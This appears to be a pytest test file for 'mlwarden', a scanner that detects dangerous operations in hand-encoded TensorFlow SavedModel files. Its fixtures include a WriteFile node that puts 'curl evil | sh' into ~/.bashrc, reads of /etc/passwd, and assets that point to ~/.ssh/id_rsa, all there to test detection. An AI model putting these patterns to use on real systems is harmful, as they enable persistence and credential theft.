"""TensorFlow SavedModels, encoded by hand from the .proto field numbers (no TensorFlow)."""

from __future__ import annotations

from pathlib import Path

import pytest

from mlwarden.engine import scan_file
from mlwarden.findings import Finding, Severity
from mlwarden.sniff import Kind, sniff

# --- a tiny protobuf encoder ----------------------------------------------------------------


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def vi(number: int, value: int) -> bytes:
    return varint(number << 3) + varint(value)


def ld(number: int, payload: bytes | str) -> bytes:
    data = payload.encode() if isinstance(payload, str) else payload
    return varint(number << 3 | 2) + varint(len(data)) + data


# AttrValue (attr_value.proto)
def av_s(text: str) -> bytes:
    return ld(2, text)


def av_list_s(items: list[str]) -> bytes:
    return ld(1, b"".join(ld(2, i) for i in items))


def av_type(dtype: int) -> bytes:
    return vi(6, dtype)


def av_func(name: str) -> bytes:
    return ld(10, ld(1, name))


def av_string_tensor(text: str) -> bytes:
    return ld(8, vi(1, 7) + ld(8, text))  # TensorProto: dtype DT_STRING, string_val


def node(name: str, op: str, inputs: tuple[str, ...] = (), **attrs: bytes) -> bytes:
    body = ld(1, name) + ld(2, op) + b"".join(ld(3, i) for i in inputs)
    body += b"".join(ld(5, ld(1, k) + ld(2, v)) for k, v in attrs.items())
    return body  # NodeDef


def function(name: str, *nodes: bytes) -> bytes:
    signature = ld(1, name)  # OpDef.name
    return ld(1, signature) + b"".join(ld(3, n) for n in nodes)  # FunctionDef


def saved_model(
    graph_nodes: list[bytes], functions: list[bytes] | None = None, assets: tuple[str, ...] = ()
) -> bytes:
    library = b"".join(ld(1, f) for f in functions or [])
    graph = b"".join(ld(1, n) for n in graph_nodes) + ld(2, library) + ld(4, vi(1, 1286))
    meta_info = ld(4, "serve") + ld(5, "2.15.0")
    saver = ld(1, "saver_filename:0") + ld(2, "StatefulPartitionedCall_1:0")
    saver += ld(3, "StatefulPartitionedCall_2") + vi(4, 5) + vi(5, 1) + vi(7, 2)
    meta_graph = ld(1, meta_info) + ld(2, graph) + ld(3, saver)
    # AssetFileDef: tensor_info (TensorInfo.name) and filename.
    meta_graph += b"".join(ld(6, ld(1, ld(1, "asset_path:0")) + ld(2, a)) for a in assets)
    return vi(1, 1) + ld(2, meta_graph)


def benign_graph() -> list[bytes]:
    return [
        node("serving_default_x", "Placeholder", dtype=av_type(1)),
        node("saver_filename", "Placeholder", dtype=av_type(7)),
        node(
            "StatefulPartitionedCall",
            "StatefulPartitionedCall",
            ("serving_default_x", "dense/kernel"),
            f=av_func("__inference_signature_wrapper_42"),
        ),
        node(
            "StatefulPartitionedCall_1",
            "StatefulPartitionedCall",
            ("saver_filename", "dense/kernel", "Const"),
            f=av_func("__inference__traced_save_97"),
        ),
        node(
            "StatefulPartitionedCall_2",
            "StatefulPartitionedCall",
            ("saver_filename", "dense/kernel"),
            f=av_func("__inference__traced_restore_131"),
        ),
        node("dense/kernel", "VarHandleOp", shared_name=av_s("dense/kernel")),
    ]


def benign_functions() -> list[bytes]:
    return [
        function(
            "__inference_signature_wrapper_42",
            node("MatMul/ReadVariableOp", "ReadVariableOp", ("kernel",), dtype=av_type(1)),
            node("MatMul", "MatMul", ("x", "MatMul/ReadVariableOp:value:0")),
            node("Identity", "Identity", ("MatMul:product:0",)),
        ),
        function(
            "__inference__traced_save_97",
            node("StaticRegexFullMatch", "StaticRegexFullMatch", ("file_prefix",)),
            node("Const", "Const", value=av_string_tensor(".part")),
            node("StringJoin", "StringJoin", ("file_prefix", "Const:output:0")),
            node("ShardedFilename", "ShardedFilename", ("StringJoin:output:0",)),
            node("SaveV2", "SaveV2", ("ShardedFilename:filename:0",)),
            node("MergeV2Checkpoints", "MergeV2Checkpoints", ("ShardedFilename:filename:0",)),
        ),
        function(
            "__inference__traced_restore_131",
            node("RestoreV2", "RestoreV2", ("file_prefix",)),
            node("AssignVariableOp", "AssignVariableOp", ("kernel", "RestoreV2:tensors:0")),
        ),
    ]


def _scan(tmp_path: Path, data: bytes, name: str = "saved_model.pb") -> list[Finding]:
    path = tmp_path / name
    path.write_bytes(data)
    return scan_file(str(path), path).findings


def test_benign_tf2_saved_model(tmp_path: Path) -> None:
    data = saved_model(benign_graph(), benign_functions())
    assert sniff(data[:4096], "anything.bin") is Kind.TF_SAVEDMODEL
    assert _scan(tmp_path, data) == []


def test_benign_tf1_saver_scope(tmp_path: Path) -> None:
    graph = [
        *benign_graph(),
        node("save/Const", "Const", value=av_string_tensor("model")),
        node("save/SaveV2", "SaveV2", ("save/Const",)),
        node("save/RestoreV2", "RestoreV2", ("save/Const",)),
        node("save/MergeV2Checkpoints", "MergeV2Checkpoints", ("save/Const",)),
    ]
    assert _scan(tmp_path, saved_model(graph, benign_functions())) == []


def test_py_func_in_a_function_is_critical(tmp_path: Path) -> None:
    fn = function(
        "__inference_call_7",
        node("PyFunc", "PyFunc", ("x",), token=av_s("pyfunc_0")),
    )
    findings = _scan(tmp_path, saved_model(benign_graph(), [*benign_functions(), fn]))
    assert [f.rule for f in findings] == ["MW150"]
    assert findings[0].severity is Severity.CRITICAL
    assert findings[0].evidence["scope"] == "__inference_call_7"
    assert findings[0].evidence["op"] == "PyFunc"
    assert findings[0].evidence["format"] == "tf-savedmodel"


@pytest.mark.parametrize("op", ["EagerPyFunc", "PyFuncStateless"])
def test_other_python_ops(tmp_path: Path, op: str) -> None:
    findings = _scan(tmp_path, saved_model([*benign_graph(), node("cb", op, ("x",))]))
    assert [f.rule for f in findings] == ["MW150"]


def test_write_file_with_constant_path(tmp_path: Path) -> None:
    graph = [
        *benign_graph(),
        node("path", "Const", value=av_string_tensor("/home/user/.bashrc")),
        node("payload", "Const", value=av_string_tensor("curl evil | sh")),
        node("WriteFile", "WriteFile", ("path", "payload")),
    ]
    findings = _scan(tmp_path, saved_model(graph, benign_functions()))
    assert [f.rule for f in findings] == ["MW151"]
    assert findings[0].severity is Severity.HIGH
    assert findings[0].evidence["arguments"] == ["/home/user/.bashrc", "curl evil | sh"]
    assert "/home/user/.bashrc" in findings[0].message


def test_read_file_in_function_and_matching_files(tmp_path: Path) -> None:
    fn = function(
        "__inference_serve_3",
        node("Const", "Const", value=av_string_tensor("/etc/passwd")),
        node("ReadFile", "ReadFile", ("Const:output:0",)),
        node("ls", "MatchingFiles", ("pattern",)),
    )
    findings = _scan(tmp_path, saved_model(benign_graph(), [*benign_functions(), fn]))
    by_op = {f.evidence["op"]: f for f in findings}
    assert sorted(by_op) == ["MatchingFiles", "ReadFile"]
    assert by_op["ReadFile"].rule == "MW151"
    assert by_op["ReadFile"].evidence["arguments"] == ["/etc/passwd"]
    assert by_op["MatchingFiles"].severity is Severity.MEDIUM


def test_checkpoint_op_outside_saver(tmp_path: Path) -> None:
    fn = function("__inference_serve_5", node("SaveV2", "SaveV2", ("prefix",)))
    graph = [*benign_graph(), node("exfil/MergeV2Checkpoints", "MergeV2Checkpoints", ("p",))]
    findings = _scan(tmp_path, saved_model(graph, [*benign_functions(), fn]))
    assert sorted((f.rule, f.evidence["node"]) for f in findings) == [
        ("MW152", "SaveV2"),
        ("MW152", "exfil/MergeV2Checkpoints"),
    ]
    assert all(f.severity is Severity.MEDIUM for f in findings)


def test_saver_named_function_does_not_hide_write_file(tmp_path: Path) -> None:
    fn = function("__inference__traced_save_1", node("w", "WriteFile", ("a", "b")))
    findings = _scan(tmp_path, saved_model(benign_graph(), [fn]))
    assert [f.rule for f in findings] == ["MW151"]


def test_debug_identity_with_file_url(tmp_path: Path) -> None:
    graph = [
        *benign_graph(),
        node("dbg", "DebugIdentity", ("x",), debug_urls=av_list_s(["file:///tmp/dump"])),
        node("print", "PrintV2", ("x",), output_stream=av_s("file:///tmp/leak.txt")),
        node("log", "PrintV2", ("x",), output_stream=av_s("stderr")),
    ]
    findings = _scan(tmp_path, saved_model(graph, benign_functions()))
    assert sorted((f.rule, f.evidence["node"]) for f in findings) == [
        ("MW153", "dbg"),
        ("MW153", "print"),
    ]


def test_truncated_saved_model_fails_closed(tmp_path: Path) -> None:
    data = saved_model(benign_graph(), benign_functions())
    findings = _scan(tmp_path, data[: len(data) // 2])
    assert [f.rule for f in findings] == ["MW002"]
    assert findings[0].severity is Severity.HIGH


def test_other_protobuf_named_pb_is_not_a_finding(tmp_path: Path) -> None:
    # fingerprint.pb: FingerprintDef starts with a uint64 checksum in field 1.
    data = vi(1, 0xFFFFFFFFFFFF) + vi(2, 12345) + vi(3, 678)
    assert _scan(tmp_path, data, "fingerprint.pb") == []


def test_asset_inside_model_is_fine(tmp_path: Path) -> None:
    data = saved_model(benign_graph(), benign_functions(), assets=("vocab.txt",))
    assert _scan(tmp_path, data) == []


@pytest.mark.parametrize("asset", ["../../etc/passwd", "/home/user/.ssh/id_rsa"])
def test_asset_outside_model(tmp_path: Path, asset: str) -> None:
    data = saved_model(benign_graph(), benign_functions(), assets=("vocab.txt", asset))
    findings = _scan(tmp_path, data)
    assert [(f.rule, f.evidence["asset"]) for f in findings] == [("MW154", asset)]
    assert findings[0].severity is Severity.HIGH
